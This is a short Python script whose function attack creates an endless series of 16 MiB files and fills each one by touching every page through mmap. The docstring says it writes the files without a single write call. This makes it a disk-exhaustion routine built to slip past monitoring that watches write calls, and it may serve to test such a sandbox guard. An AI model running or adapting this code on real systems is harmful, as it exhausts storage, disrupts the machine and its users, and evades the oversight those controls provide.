"""Writes many files by their mapped pages, without a single call that writes."""

import itertools
import mmap
import os


def attack():
    for number in itertools.count():
        file = os.open(f"mapped_{number}", os.O_RDWR | os.O_CREAT)
        os.ftruncate(file, 16 << 20)
        with mmap.mmap(file, 16 << 20) as pages:
            for place in range(0, 16 << 20, 4096):
                pages[place] = 1
        os.close(file)
